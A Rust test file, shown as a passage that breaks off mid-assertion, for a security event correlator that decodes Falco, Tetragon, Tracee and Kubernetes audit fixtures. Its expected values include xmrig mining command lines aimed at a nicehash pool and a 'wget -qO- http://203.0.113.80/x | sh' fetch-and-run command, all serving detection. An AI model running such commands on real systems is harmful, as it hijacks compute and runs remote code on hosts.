//! Hand-written edge cases in `fixtures/edge`, in the real wire formats, decode to the normalized
//! fields the correlator relies on: workload keys and partition keys, images, actors, processes,
//! destinations, facts, and the reasons events are skipped.

use std::io::Write;
use std::path::Path;

use tidemark_ingest::decode::{self, DecodeError, Decoded, InputFormat, RecordContext};
use tidemark_ingest::input::{self, Piece};
use tidemark_proto::v1::signal::Fact;
use tidemark_proto::v1::{
    ContainerAccess, ContainerStarted, Format, Image, ImagePushed, NetworkConnection, Platform,
    ProcessExecuted, RawPointer, RuntimeAlert, Signal, SourceKind, WorkloadChanged, WorkloadKey,
    WorkloadResolution,
};

/// Cluster configured for the topics whose records do not name their cluster.
const CLUSTER: &str = "edge";
/// When the records are decoded.
const INGEST_TIME: i64 = 1_900_000_000_000_000_000;
/// The Kafka timestamp of the records, distinct from the ingest time.
const FALLBACK_TIME: i64 = 1_772_446_000_000_000_000;

const WEB_POD: &str = "web-7c9d9f6b8-x2l4p";
const KA_DIGEST: &str = "sha256:f9d31aef3f85116d22a747e58e43147228a70952721b1bacf5a3b23ff918cc3b";
const WEB_CONTAINER_ID: &str = "443c257bb384c2f21b6e3932a26de94487f56d929a2d406319472c6345d784c3";
const WEB_184_DIGEST: &str =
    "sha256:dfd402b6e46d78c1253e5d2f7962d6097a2a95c56b0f9b3ed52e0e11f12752ad";
const ECR_EU_WEST_1: &str = "111122223333.dkr.ecr.eu-west-1.amazonaws.com";

// ---------------------------------------------------------------------------------------------
// Helpers

fn fixture(path: &str) -> Vec<u8> {
    let full = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../fixtures/edge")
        .join(path);
    std::fs::read(&full).unwrap_or_else(|e| panic!("{}: {e}", full.display()))
}

fn context(topic: &str, line: u64) -> RecordContext {
    let pointer = RawPointer {
        topic: topic.to_owned(),
        line,
        ..Default::default()
    };
    let mut ctx = RecordContext::new(pointer, INGEST_TIME);
    ctx.cluster = CLUSTER.to_owned();
    ctx.fallback_time_unix_nano = FALLBACK_TIME;
    ctx
}

/// Decodes every record of a fixture file as `format`, one `Decoded` per record.
fn decode_as(path: &str, format: InputFormat) -> Vec<Decoded> {
    let content = fixture(path);
    let mut all = Vec::new();
    for piece in input::split(&content) {
        let Piece::Record { line, bytes } = piece else {
            panic!("{path}: invalid JSON piece {piece:?}");
        };
        let decoded = decode::decode(bytes, format, &context(path, line))
            .unwrap_or_else(|e| panic!("{path}:{line}: {e}"));
        all.push(decoded);
    }
    all
}

/// Decodes a fixture file with format detection.
fn decode_file(path: &str) -> Vec<Decoded> {
    decode_as(path, InputFormat::Auto)
}

/// Every signal of a fixture file, in order.
fn signals(path: &str) -> Vec<Signal> {
    decode_file(path)
        .into_iter()
        .flat_map(|d| d.signals)
        .collect()
}

/// The one signal of a fixture file.
fn only(path: &str) -> Signal {
    let mut all = signals(path);
    assert_eq!(all.len(), 1, "{path} gives one signal");
    all.remove(0)
}

/// Every skip of a fixture file as (envelope index, reason).
fn skips(decoded: &[Decoded]) -> Vec<(u32, &'static str)> {
    decoded
        .iter()
        .flat_map(|d| &d.skipped)
        .map(|s| (s.index, s.reason))
        .collect()
}

fn workload(signal: &Signal) -> &WorkloadKey {
    signal.workload.as_ref().expect("signal names a workload")
}

fn image(signal: &Signal) -> &Image {
    signal.image.as_ref().expect("signal names an image")
}

fn alert(signal: &Signal) -> &RuntimeAlert {
    match &signal.fact {
        Some(Fact::RuntimeAlert(alert)) => alert,
        other => panic!("not a runtime alert: {other:?}"),
    }
}

fn alert_process(signal: &Signal) -> &ProcessExecuted {
    alert(signal)
        .process
        .as_ref()
        .expect("alert names a process")
}

fn exec(signal: &Signal) -> &ProcessExecuted {
    match &signal.fact {
        Some(Fact::ProcessExecuted(process)) => process,
        other => panic!("not a process execution: {other:?}"),
    }
}

fn connection(signal: &Signal) -> &NetworkConnection {
    match &signal.fact {
        Some(Fact::NetworkConnection(connection)) => connection,
        other => panic!("not a network connection: {other:?}"),
    }
}

fn change(signal: &Signal) -> &WorkloadChanged {
    match &signal.fact {
        Some(Fact::WorkloadChanged(change)) => change,
        other => panic!("not a workload change: {other:?}"),
    }
}

fn access(signal: &Signal) -> &ContainerAccess {
    match &signal.fact {
        Some(Fact::ContainerAccess(access)) => access,
        other => panic!("not a container access: {other:?}"),
    }
}

fn started(signal: &Signal) -> &ContainerStarted {
    match &signal.fact {
        Some(Fact::ContainerStarted(started)) => started,
        other => panic!("not a container start: {other:?}"),
    }
}

fn pushed(signal: &Signal) -> &ImagePushed {
    match &signal.fact {
        Some(Fact::ImagePushed(pushed)) => pushed,
        other => panic!("not an image push: {other:?}"),
    }
}

/// Asserts an image's parts and its full reference.
fn assert_image(image: &Image, registry: &str, repository: &str, tag: &str, digest: &str) {
    assert_eq!(image.registry, registry, "registry of {image:?}");
    assert_eq!(image.repository, repository, "repository of {image:?}");
    assert_eq!(image.tag, tag, "tag of {image:?}");
    assert_eq!(image.digest, digest, "digest of {image:?}");
    let mut reference = format!("{registry}/{repository}");
    if !tag.is_empty() {
        reference.push(':');
        reference.push_str(tag);
    }
    if !digest.is_empty() {
        reference.push('@');
        reference.push_str(digest);
    }
    assert_eq!(image.reference, reference);
}

/// Asserts a Kubernetes workload key: kind, name, resolution and instance, in `cluster`.
fn assert_k8s_workload(
    signal: &Signal,
    cluster: &str,
    namespace: &str,
    kind: &str,
    name: &str,
    resolution: WorkloadResolution,
    instance: &str,
) {
    let key = workload(signal);
    assert_eq!(key.platform, Platform::Kubernetes as i32);
    assert_eq!(key.cluster, cluster);
    assert_eq!(key.namespace, namespace);
    assert_eq!(key.kind, kind);
    assert_eq!(key.name, name);
    assert_eq!(key.resolution, resolution as i32, "resolution of {key:?}");
    assert_eq!(key.instance, instance);
    assert_eq!(
        signal.partition_key(),
        format!("k8s/{cluster}/{namespace}/{name}")
    );
}

/// Asserts an ECS workload key keyed by task-definition family.
fn assert_ecs_family(signal: &Signal, account: &str, region: &str, family: &str) {
    let key = workload(signal);
    assert_eq!(key.platform, Platform::Ecs as i32);
    assert_eq!(
        (key.account.as_str(), key.region.as_str()),
        (account, region)
    );
    assert_eq!(key.kind, "TaskFamily");
    assert_eq!(key.name, family);
    assert_eq!(key.resolution, WorkloadResolution::Explicit as i32);
    assert_eq!(
        signal.partition_key(),
        format!("ecs/{account}/{region}/{family}")
    );
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).expect("gzip into memory");
    encoder.finish().expect("gzip into memory")
}

// ---------------------------------------------------------------------------------------------
// Falco

const FALCO_MINER: &str = "falco/miner_stratum_appended_fields.json";

#[test]
fn falco_miner_alert_is_keyed_to_the_deployment_guessed_from_the_pod_name() {
    let signal = only(FALCO_MINER);
    assert_eq!(signal.format, Format::Falco as i32);
    assert_eq!(signal.source, SourceKind::Node as i32);
    assert_eq!(signal.event_time_unix_nano, 1_772_446_504_112_233_445);
    assert_eq!(signal.ingest_time_unix_nano, INGEST_TIME);
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::PodName,
        WEB_POD,
    );
}

#[test]
fn falco_appended_image_fields_give_a_digest_pinned_docker_hub_reference() {
    let signal = only(FALCO_MINER);
    assert_image(image(&signal), "docker.io", "yzsqbe/ka", "si", KA_DIGEST);
    let container = signal.container.as_ref().unwrap();
    assert_eq!(container.id, "3ad7b26ded6d");
    assert_eq!(container.name, "web");
    assert_eq!(container.node, "ip-10-0-3-17");
}

#[test]
fn falco_stratum_command_line_splits_into_binary_name_and_arguments() {
    let signal = only(FALCO_MINER);
    let process = alert_process(&signal);
    assert_eq!(process.binary, "/xmrig-6.14.1/app4821937");
    assert_eq!(process.name, "app4821937");
    assert_eq!(
        process.arguments,
        "-a rx/0 -o stratum+tcp://randomxmonero.auto.nicehash.com:9200 -p x -t 16 \
         -u bc1qexampleexampleexampleexample"
    );
    assert_eq!(
        process.command_line,
        format!("app4821937 {}", process.arguments)
    );
    assert_eq!(process.parent_binary, "sh");
    assert_eq!(process.user, "root");
    assert!(
        alert(&signal).connection.is_none(),
        "an execve alert has no connection"
    );
}

#[test]
fn falco_alert_keeps_rule_priority_tags_and_the_linux_user() {
    let signal = only(FALCO_MINER);
    assert_eq!(
        signal.source_event,
        "Detect crypto miners using the Stratum protocol"
    );
    let alert = alert(&signal);
    assert_eq!(
        alert.rule,
        "Detect crypto miners using the Stratum protocol"
    );
    assert_eq!(alert.priority, "Critical");
    assert_eq!(
        alert.tags,
        [
            "T1496",
            "container",
            "host",
            "maturity_sandbox",
            "mitre_impact",
            "process"
        ]
    );
    assert!(alert.output.contains("Possible miner running"));
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(
        (actor.name.as_str(), actor.kind.as_str()),
        ("root", "linux-user")
    );
    assert_eq!(signal.dedup_key, "", "plain Falco alerts carry no id");
}

#[test]
fn falco_image_digest_given_as_an_array_takes_the_first_digest() {
    let signal = only("falco/image_digest_array.json");
    assert_image(
        image(&signal),
        "docker.io",
        "library/alpine",
        "3.19",
        "sha256:4fbd15dc14e68decc97619b104c0605016279e952b2b13d01e7862f62236122b",
    );
    // A bare pod name (no generated suffix) is the workload itself.
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "ops",
        "Pod",
        "toolbox",
        WorkloadResolution::Instance,
        "toolbox",
    );
    assert_eq!(alert_process(&signal).binary, "/sbin/apk");
}

#[test]
fn falco_k8smeta_deployment_name_is_an_explicit_owner() {
    let all = signals("falco/k8smeta_explicit_owner.ndjson");
    // The deployment name wins over both the pod-name guess and the ReplicaSet name.
    assert_k8s_workload(
        &all[0],
        CLUSTER,
        "shop",
        "Deployment",
        "storefront",
        WorkloadResolution::Explicit,
        WEB_POD,
    );
}

#[test]
fn falco_k8smeta_replicaset_name_resolves_to_its_deployment() {
    let all = signals("falco/k8smeta_explicit_owner.ndjson");
    assert_k8s_workload(
        &all[1],
        CLUSTER,
        "shop",
        "Deployment",
        "api",
        WorkloadResolution::Explicit,
        "api-canary",
    );
}

#[test]
fn falco_exe_upper_layer_flag_marks_drift() {
    let all = signals("falco/drift_upper_layer_flags.ndjson");
    assert_eq!(all.len(), 2);
    let dropped = alert_process(&all[0]);
    assert!(dropped.drift, "EXE_UPPER_LAYER in evt.arg.flags is drift");
    assert_eq!(dropped.binary, "/tmp/.x/wget");
    assert_eq!(dropped.parent_command_line, "sh /run.sh");
    assert_eq!((dropped.cwd.as_str(), dropped.pid), ("/", 4702));
    let shipped = alert_process(&all[1]);
    assert!(!shipped.drift, "EXE_WRITABLE alone is not drift");
    // The miner alert of the [R] example carries the same flags.
    assert!(alert_process(&only(FALCO_MINER)).drift);
}

#[test]
fn falco_outbound_connection_fields_become_the_alert_connection() {
    let signal = only("falco/outbound_miner_pool_connection.json");
    let alert = alert(&signal);
    let connection = alert
        .connection
        .as_ref()
        .expect("connect alert names a connection");
    assert_eq!(connection.destination_address, "203.0.113.80");
    assert_eq!(connection.destination_port, 3333);
    assert_eq!(connection.domain, "pool.example.net");
    assert_eq!(connection.protocol, "tcp");
    assert_eq!(
        (connection.source_address.as_str(), connection.source_port),
        ("192.0.2.23", 51312)
    );
    let process = alert.process.as_ref().unwrap();
    assert_eq!(process.name, "app4821937");
    assert!(!process.drift);
    assert_eq!(signal.partition_key(), format!("k8s/{CLUSTER}/shop/web"));
}

#[test]
fn falco_alert_with_only_a_container_id_is_keyed_by_the_container() {
    let all = signals("falco/container_only.ndjson");
    let signal = &all[0];
    let key = workload(signal);
    assert_eq!(key.resolution, WorkloadResolution::Container as i32);
    assert_eq!(key.name, "f8393b5fea8b");
    assert_eq!((key.namespace.as_str(), key.kind.as_str()), ("", ""));
    assert_eq!(signal.partition_key(), "container/f8393b5fea8b");
    let container = signal.container.as_ref().unwrap();
    assert_eq!(
        (container.id.as_str(), container.name.as_str()),
        ("f8393b5fea8b", "romantic_kare")
    );
    assert_eq!(container.node, "docker-host-01");
    assert!(signal.image.is_none());
    let process = alert_process(signal);
    assert_eq!(process.binary, "/dev/shm/kdevtmpfsi");
    assert!(
        process.drift,
        "the drift rule and proc.is_exe_upper_layer both mean drift"
    );
}

#[test]
fn falco_full_container_id_shares_the_short_id_partition() {
    let all = signals("falco/container_only.ndjson");
    let full = &all[1];
    let full_id = "f8393b5fea8b3bdf7c3f41e77623a5185ed0403f84258ca04181f8a1c13dc38a";
    assert_eq!(full.container.as_ref().unwrap().id, full_id);
    assert_eq!(workload(full).name, full_id);
    assert_eq!(full.partition_key(), all[0].partition_key());
}

#[test]
fn falcosidekick_uuid_becomes_the_dedup_key() {
    let signal = only("falco/falcosidekick_uuid.json");
    assert_eq!(
        signal.dedup_key,
        "falco/6c4a1e52-93f3-4d5b-8e0e-4b7f6f2a9d11"
    );
    assert_eq!(
        alert(&signal).rule,
        "Detect crypto miners using the Stratum protocol"
    );
    assert_eq!(signal.partition_key(), format!("k8s/{CLUSTER}/shop/web"));
}

// ---------------------------------------------------------------------------------------------
// Tetragon

const TETRAGON_CONNECT: &str = "tetragon/kprobe_tcp_connect.json";

#[test]
fn tetragon_tcp_connect_kprobe_is_a_connection_with_its_process() {
    let signal = only(TETRAGON_CONNECT);
    assert_eq!(signal.format, Format::Tetragon as i32);
    assert_eq!(signal.event_time_unix_nano, 1_772_446_504_512_000_000);
    assert_eq!(signal.source_event, "process_kprobe");
    let connection = connection(&signal);
    assert_eq!(connection.destination_address, "203.0.113.80");
    assert_eq!(connection.destination_port, 9200);
    assert_eq!(connection.protocol, "IPPROTO_TCP");
    assert_eq!(
        (connection.source_address.as_str(), connection.source_port),
        ("192.0.2.23", 51312)
    );
    assert_eq!(connection.domain, "", "Tetragon resolves no names");
    let process = connection.process.as_ref().unwrap();
    assert_eq!(process.binary, "/tmp/app4821937");
    assert_eq!(process.name, "app4821937");
    assert_eq!(
        process.arguments,
        "-a rx/0 -o stratum+tcp://randomxmonero.auto.nicehash.com:9200 -p x -t 16"
    );
    assert_eq!(
        process.command_line,
        format!("/tmp/app4821937 {}", process.arguments)
    );
    assert_eq!(process.parent_binary, "/bin/sh");
    assert_eq!(process.parent_command_line, "/bin/sh /run.sh");
    assert_eq!((process.pid, process.user.as_str()), (4711, "0"));
    assert_eq!(
        process.exec_id,
        "aXAtMTAtMC0zLTE3OjEyMzQ1Njc4OTAxMjM0OjQ3MTE="
    );
    assert_eq!(
        signal.dedup_key,
        format!(
            "tetragon/process_kprobe/{}/{}",
            process.exec_id, signal.event_time_unix_nano
        )
    );
}

#[test]
fn tetragon_workload_fields_name_the_deployment_explicitly() {
    let signal = only(TETRAGON_CONNECT);
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::Explicit,
        WEB_POD,
    );
    let container = signal.container.as_ref().unwrap();
    assert_eq!(container.id, WEB_CONTAINER_ID);
    assert_eq!(
        (container.name.as_str(), container.node.as_str()),
        ("web", "ip-10-0-3-17")
    );
}

#[test]
fn tetragon_image_id_gives_the_digest_of_the_named_image() {
    let signal = only(TETRAGON_CONNECT);
    assert_image(image(&signal), "docker.io", "yzsqbe/ka", "si", KA_DIGEST);
}

#[test]
fn tetragon_docker_pullable_image_id_loses_its_prefix() {
    let all = signals("tetragon/docker_pullable_image_id.ndjson");
    assert_eq!(all.len(), 2);
    let digest = "sha256:dd6c7e09605f2debc7868da99fedad56cc3a0056bc7f08de05c776b677c175d0";
    assert_image(
        image(&all[0]),
        "quay.io",
        "example/jobs-app",
        "v1.2",
        digest,
    );
    assert_eq!(
        all[0].container.as_ref().unwrap().id,
        "97da13d0687a36e7df54251b22bf38f90d2a03a0d16dbe34dd93e9bf9701ffb8",
        "the docker:// runtime prefix is stripped"
    );
    assert_eq!(exec(&all[0]).binary, "/usr/local/bin/jobs-app");
}

#[test]
fn tetragon_image_id_alone_gives_a_digest_pinned_reference() {
    let all = signals("tetragon/docker_pullable_image_id.ndjson");
    let digest = "sha256:dd6c7e09605f2debc7868da99fedad56cc3a0056bc7f08de05c776b677c175d0";
    // Empty image name: the reference comes from the id, pinned by digest, with no implied tag.
    assert_image(image(&all[1]), "quay.io", "example/jobs-app", "", digest);
    // No workload fields: the owner is guessed from the pod name.
    assert_k8s_workload(
        &all[1],
        CLUSTER,
        "tenant-jobs",
        "Deployment",
        "jobs",
        WorkloadResolution::PodName,
        "jobs-6d4f8b7c95-q8m2z",
    );
}

#[test]
fn tetragon_process_exit_is_skipped_not_an_error() {
    let decoded = decode_file("tetragon/process_exit.json");
    assert_eq!(decoded[0].format, Some(InputFormat::Tetragon));
    assert!(decoded[0].signals.is_empty());
    assert_eq!(skips(&decoded), [(0, "tetragon event type not correlated")]);
}

// ---------------------------------------------------------------------------------------------
// Tracee

#[test]
fn tracee_exec_takes_binary_from_pathname_and_arguments_from_argv() {
    let signal = only("tracee/sched_process_exec.json");
    assert_eq!(signal.format, Format::Tracee as i32);
    assert_eq!(signal.event_time_unix_nano, 1_772_446_504_100_000_000);
    assert_eq!(signal.source_event, "sched_process_exec");
    let process = exec(&signal);
    assert_eq!(process.binary, "/tmp/app4821937");
    assert_eq!(process.name, "app4821937");
    assert_eq!(
        process.command_line,
        "./app4821937 -a rx/0 -o stratum+tcp://randomxmonero.auto.nicehash.com:9200 -t 16"
    );
    assert_eq!(
        process.arguments,
        "-a rx/0 -o stratum+tcp://randomxmonero.auto.nicehash.com:9200 -t 16"
    );
    assert_eq!((process.pid, process.user.as_str()), (48211, "0"));
}

#[test]
fn tracee_exec_names_pod_container_and_image_but_not_the_node() {
    let signal = only("tracee/sched_process_exec.json");
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::PodName,
        WEB_POD,
    );
    assert_image(image(&signal), "docker.io", "yzsqbe/ka", "si", KA_DIGEST);
    let container = signal.container.as_ref().unwrap();
    assert_eq!(
        container.id,
        "8e51ddc42f2bed27e09439e345725538bb3b3d85213eee76563b000f6ad6fd77"
    );
    assert_eq!(container.name, "web");
    // `hostName` is the pod's UTS name, not the node.
    assert_eq!(container.node, "");
}

#[test]
fn tracee_tcp_connect_names_address_port_and_resolved_domain() {
    let signal = only("tracee/net_tcp_connect.json");
    let connection = connection(&signal);
    assert_eq!(connection.destination_address, "203.0.113.80");
    assert_eq!(connection.destination_port, 9200);
    assert_eq!(connection.domain, "randomxmonero.auto.nicehash.com");
    assert_eq!(connection.protocol, "TCP");
    let process = connection.process.as_ref().unwrap();
    assert_eq!(
        (process.name.as_str(), process.binary.as_str()),
        ("app4821937", "/tmp/app4821937")
    );
    assert_eq!(signal.partition_key(), format!("k8s/{CLUSTER}/shop/web"));
}

#[test]
fn tracee_signature_finding_is_an_alert_with_mitre_tags() {
    let signal = only("tracee/signature_finding.json");
    assert_eq!(signal.source_event, "anti_debugging");
    let alert = alert(&signal);
    assert_eq!(alert.rule, "Anti-Debugging detected");
    assert_eq!(alert.priority, "1");
    assert_eq!(alert.tags, ["T1622", "defense-evasion", "TRC-102"]);
    assert_eq!(
        alert.output,
        "A process tried to detect a debugger with ptrace(PTRACE_TRACEME)."
    );
    assert_eq!(alert.process.as_ref().unwrap().name, "strace");
    assert!(alert.connection.is_none());
}

#[test]
fn tracee_legacy_flat_fields_name_pod_container_and_image() {
    let signal = only("tracee/flat_legacy_exec.json");
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::PodName,
        WEB_POD,
    );
    assert_image(image(&signal), "docker.io", "yzsqbe/ka", "si", "");
    let container = signal.container.as_ref().unwrap();
    assert_eq!(
        container.id,
        "4ed13f6f8aac80bfaeb11d82c1510b75aaa57aff5d31cf86f61dbe80251a24c5"
    );
    assert_eq!(container.name, "web");
    let process = exec(&signal);
    assert_eq!(process.binary, "/tmp/app4821937");
    assert_eq!(
        process.arguments,
        "-o stratum+tcp://randomxmonero.auto.nicehash.com:9200"
    );
}

#[test]
fn runtime_sensors_agree_on_the_workload_partition() {
    let keys = [
        only(FALCO_MINER).partition_key(),
        only(TETRAGON_CONNECT).partition_key(),
        only("tracee/sched_process_exec.json").partition_key(),
        only("tracee/flat_legacy_exec.json").partition_key(),
        only("k8s-audit/set_image_patch_request_level.json").partition_key(),
    ];
    for key in &keys {
        assert_eq!(key, &format!("k8s/{CLUSTER}/shop/web"));
    }
}

// ---------------------------------------------------------------------------------------------
// Kubernetes audit

#[test]
fn audit_event_list_gives_one_signal_per_audit_id() {
    let decoded = decode_file("k8s-audit/eventlist_stages_same_audit_id.json");
    assert_eq!(decoded[0].format, Some(InputFormat::K8sAudit));
    let signals = &decoded[0].signals;
    assert_eq!(signals.len(), 1);
    assert_eq!(
        skips(&decoded),
        [
            (0, "audit stage not used"),
            (2, "audit request already seen")
        ]
    );
    let signal = &signals[0];
    assert_eq!(
        signal.raw.as_ref().unwrap().index,
        1,
        "the ResponseComplete item"
    );
    assert_eq!(
        signal.dedup_key,
        "k8s-audit/0b7f3a52-5a1e-4c8e-9d7e-1f2a3b4c5d6e"
    );
    assert_eq!(signal.event_time_unix_nano, 1_772_443_800_100_000_000);
    assert_k8s_workload(
        signal,
        CLUSTER,
        "shop",
        "Deployment",
        "cache",
        WorkloadResolution::Explicit,
        "",
    );
    let change = change(signal);
    assert_eq!(
        (change.verb.as_str(), change.resource.as_str()),
        ("create", "deployments")
    );
    assert_eq!(change.replicas, 2);
    assert!(!change.partial);
    assert_image(image(signal), "docker.io", "library/redis", "7.2", "");
}

#[test]
fn audit_reads_are_skipped_as_read_only() {
    let decoded = decode_file("k8s-audit/read_only_get_list.ndjson");
    assert!(decoded.iter().all(|d| d.signals.is_empty()));
    assert_eq!(
        skips(&decoded),
        [
            (0, "audit request is read-only"),
            (0, "audit request is read-only")
        ]
    );
}

#[test]
fn audit_forbidden_request_is_skipped() {
    let decoded = decode_file("k8s-audit/forbidden_create_403.json");
    assert!(decoded[0].signals.is_empty());
    assert_eq!(skips(&decoded), [(0, "audit request failed")]);
}

#[test]
fn audit_set_image_patch_at_request_level_is_partial_with_the_patched_image() {
    let signal = only("k8s-audit/set_image_patch_request_level.json");
    assert_eq!(signal.format, Format::K8sAudit as i32);
    assert_eq!(signal.source, SourceKind::Audit as i32);
    assert_eq!(signal.event_time_unix_nano, 1_772_446_441_101_000_000);
    assert_eq!(signal.source_event, "patch deployments");
    assert_eq!(
        signal.dedup_key,
        "k8s-audit/5f0e7c1a-2b3d-4e5f-8a9b-0c1d2e3f4a5b"
    );
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::Explicit,
        "",
    );
    let change = change(&signal);
    assert_eq!(
        (change.verb.as_str(), change.resource.as_str()),
        ("patch", "deployments")
    );
    assert!(change.partial, "a patch body lists only what it changes");
    assert_eq!(change.containers.len(), 1);
    assert_eq!(
        (
            change.containers[0].name.as_str(),
            change.containers[0].role.as_str()
        ),
        ("web", "container")
    );
    assert_image(
        change.containers[0].image.as_ref().unwrap(),
        "docker.io",
        "yzsqbe/ka",
        "si",
        "",
    );
    assert_image(image(&signal), "docker.io", "yzsqbe/ka", "si", "");
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(
        (actor.name.as_str(), actor.kind.as_str()),
        ("dev-bob", "kubernetes-user")
    );
    assert_eq!(actor.source_address, "203.0.113.7");
    assert_eq!(
        actor.user_agent,
        "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
    );
    assert_eq!(actor.groups, ["developers", "system:authenticated"]);
}

#[test]
fn audit_set_image_patch_with_response_object_lists_every_container() {
    let signal = only("k8s-audit/set_image_patch_request_response_level.json");
    let change = change(&signal);
    assert!(
        !change.partial,
        "the response object is the whole Deployment"
    );
    let listed: Vec<(&str, &str, &str)> = change
        .containers
        .iter()
        .map(|c| {
            (
                c.name.as_str(),
                c.role.as_str(),
                c.image.as_ref().unwrap().reference.as_str(),
            )
        })
        .collect();
    assert_eq!(
        listed,
        [
            ("web", "container", "docker.io/yzsqbe/ka:si"),
            ("envoy", "container", "docker.io/envoyproxy/envoy:v1.29.1"),
            ("migrate", "init", "registry.example.com/shop/migrate:1.8.3"),
        ]
    );
    assert_eq!(change.containers[1].command, "-c /etc/envoy/envoy.yaml");
    assert_eq!(
        change.commands,
        ["-c /etc/envoy/envoy.yaml", "/migrate --up"]
    );
    assert_eq!(change.replicas, 3);
    assert_image(image(&signal), "docker.io", "yzsqbe/ka", "si", "");
    assert_eq!(signal.partition_key(), format!("k8s/{CLUSTER}/shop/web"));
}

#[test]
fn audit_json_patch_sets_the_container_image() {
    let signal = only("k8s-audit/json_patch_image.json");
    let change = change(&signal);
    assert!(change.partial);
    assert_eq!(change.containers.len(), 1, "the `test` op names no image");
    assert_eq!(
        change.containers[0].name, "",
        "a JSON patch path names an index, not a name"
    );
    assert_image(
        change.containers[0].image.as_ref().unwrap(),
        "registry.example.com",
        "shop/web",
        "1.8.4",
        "",
    );
    assert_image(
        image(&signal),
        "registry.example.com",
        "shop/web",
        "1.8.4",
        "",
    );
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(actor.name, "system:serviceaccount:ci:deployer");
    assert_eq!(actor.kind, "service-account");
    assert_eq!(signal.partition_key(), format!("k8s/{CLUSTER}/shop/web"));
}

#[test]
fn audit_rollout_restart_patch_changes_no_image() {
    let signal = only("k8s-audit/rollout_restart_patch.json");
    let change = change(&signal);
    assert_eq!(change.verb, "patch");
    assert!(change.partial);
    assert!(change.containers.is_empty());
    assert!(signal.image.is_none());
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::Explicit,
        "",
    );
}

#[test]
fn audit_kubelet_status_patch_binds_container_ids_to_pod_and_digest() {
    let signal = only("k8s-audit/kubelet_pod_status_patch.json");
    assert_eq!(signal.source_event, "patch pods/status");
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(
        actor.name,
        "system:node:ip-10-0-3-17.eu-west-1.compute.internal"
    );
    assert_eq!(actor.kind, "node");
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::PodName,
        WEB_POD,
    );
    let started = started(&signal);
    assert_eq!(started.status, "Running");
    assert_eq!(started.containers.len(), 2);
    let web = &started.containers[0];
    assert_eq!(
        (web.id.as_str(), web.name.as_str()),
        (WEB_CONTAINER_ID, "web")
    );
    assert_image(
        web.image.as_ref().unwrap(),
        "docker.io",
        "yzsqbe/ka",
        "si",
        KA_DIGEST,
    );
    let envoy = &started.containers[1];
    assert_eq!(
        envoy.id,
        "63276f5d7bcf5b8042b18e2224db9595c03404d300300263e0a1de2ba52f0df0"
    );
    assert_image(
        envoy.image.as_ref().unwrap(),
        "docker.io",
        "envoyproxy/envoy",
        "v1.29.1",
        "sha256:f87b7d7464c272f9de04980a20709d3fffdaa959567debc67a720cbb26a1c09b",
    );
    assert_eq!(image(&signal), web.image.as_ref().unwrap());
    // The binding joins the runtime sensor's container id to the same image digest.
    let tetragon = only(TETRAGON_CONNECT);
    assert_eq!(tetragon.container.as_ref().unwrap().id, web.id);
    assert_eq!(image(&tetragon), web.image.as_ref().unwrap());
}

#[test]
fn audit_kubectl_debug_is_ephemeral_container_access() {
    let signal = only("k8s-audit/kubectl_debug_ephemeral_container.json");
    assert_eq!(signal.source_event, "patch pods/ephemeralcontainers");
    let access = access(&signal);
    assert_eq!(access.kind, "ephemeral");
    assert_eq!(access.container, "debugger-x7k2q");
    assert_eq!(access.command, "sh -c wget -qO- http://203.0.113.80/x | sh");
    assert!(
        access.interactive,
        "the debug container asks for stdin and a tty"
    );
    assert_image(image(&signal), "docker.io", "library/busybox", "1.36", "");
    assert_eq!(signal.actor.as_ref().unwrap().name, "dev-bob");
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::PodName,
        WEB_POD,
    );
}

#[test]
fn audit_cronjob_create_reads_the_job_template_image() {
    let signal = only("k8s-audit/cronjob_create.json");
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "shop",
        "CronJob",
        "cleanup",
        WorkloadResolution::Explicit,
        "",
    );
    let change = change(&signal);
    assert_eq!(
        (change.verb.as_str(), change.resource.as_str()),
        ("create", "cronjobs")
    );
    assert_eq!(change.containers.len(), 1);
    let container = &change.containers[0];
    assert_eq!(container.name, "cleanup");
    assert_eq!(container.command, "/bin/sh -c /run.sh");
    assert_image(
        container.image.as_ref().unwrap(),
        "docker.io",
        "yzsqbe/se",
        "ab",
        "",
    );
    assert_eq!(change.commands, ["/bin/sh -c /run.sh"]);
}

#[test]
fn audit_anonymous_daemonset_create_names_the_anonymous_actor() {
    let signal = only("k8s-audit/daemonset_create_anonymous.json");
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "default",
        "DaemonSet",
        "proxy-api",
        WorkloadResolution::Explicit,
        "",
    );
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(actor.name, "system:anonymous");
    assert_eq!(actor.groups, ["system:unauthenticated"]);
    assert_eq!(actor.source_address, "198.51.100.66");
    assert_eq!(actor.user_agent, "python-requests/2.31.0");
    let change = change(&signal);
    assert!(!change.partial);
    assert!(change.privileged, "hostNetwork makes the change privileged");
    assert_image(image(&signal), "docker.io", "pauseyyf/pause", "latest", "");
}

#[test]
fn audit_replicaset_create_belongs_to_its_owner_deployment() {
    let signal = only("k8s-audit/replicaset_create_owned_by_deployment.json");
    assert_k8s_workload(
        &signal,
        CLUSTER,
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::Explicit,
        "web-5b8d6f7c4d",
    );
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(
        actor.name,
